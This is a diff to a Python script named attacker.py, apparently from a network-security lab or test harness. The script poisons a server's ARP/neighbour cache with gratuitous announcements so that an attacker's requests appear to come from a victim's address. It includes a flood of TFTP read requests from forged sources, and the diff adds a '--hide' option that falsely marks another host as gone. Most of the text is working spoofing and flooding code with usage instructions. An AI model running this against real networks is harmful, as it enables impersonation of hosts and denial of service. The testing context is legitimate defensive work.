@@ -6,13 +6,17 @@ It keeps its own MAC and IP. Around one request it tells the server, with one gr
 is at the victim's MAC, then puts its entry back the same way 50 ms later; the server's answer,
 sent to the victim's MAC first, reaches the attacker on TCP's (or TFTP's) retransmission.
 
-    attacker.py http IFACE OWN_MAC FORGED_MAC SERVER PORT METHOD PATH [-H 'Name: value']... [--body TEXT]
+    attacker.py http IFACE OWN_MAC FORGED_MAC SERVER PORT METHOD PATH [-H 'Name: value']... [--body TEXT] [--hide IP=MAC]...
     attacker.py tftp IFACE OWN_MAC FORGED_MAC SERVER FILE
     attacker.py flip IFACE MAC OWN_IP    (the entry only: no request)
     attacker.py rrq-flood SERVER FIRST_SOURCE SOURCES RATE SECONDS FILE...
         TFTP read requests from forged on-link sources (FIRST_SOURCE and the SOURCES-1
         addresses after it, in turn), RATE a second for SECONDS, cycling through the FILEs;
         prints how many were sent.
+
+--hide IP=MAC makes it a double flip: around the request it also tells the server that another
+host's address (the node's last one) is at MAC, a bogus one, so that the server's cache says the
+node is gone from there.
 
 http prints the status code on the first line, then the body; tftp prints the file, or
 "ERROR <code> <message>", or "TIMEOUT". Run inside the attacker's network namespace, as root
@@ -91,12 +95,14 @@ def flip(iface, own_mac, claimed_mac, ip):
 
 def http(argv):
     iface, own_mac, forged_mac, server, port, method, path = argv[:7]
-    headers, body, rest = [], "", argv[7:]
+    headers, body, hide, rest = [], "", [], argv[7:]
     while rest:
         if rest[0] == "-H":
             headers.append(rest[1])
         elif rest[0] == "--body":
             body = rest[1]
+        elif rest[0] == "--hide":
+            hide.append(rest[1].split("="))
         rest = rest[2:]
     family = socket.AF_INET6 if ":" in server else socket.AF_INET
     own_ip = own_address(iface, family)
@@ -109,6 +115,8 @@ def http(argv):
     if body or method == "POST":
         request += f"Content-Type: application/json\r\nContent-Length: {len(body.encode())}\r\n"
     request += "\r\n" + body
+    for hidden_ip, bogus_mac in hide:
+        flip(iface, own_mac, bogus_mac, hidden_ip)
     flip(iface, own_mac, forged_mac, own_ip)
     time.sleep(0.05)
     conn.sendall(request.encode())
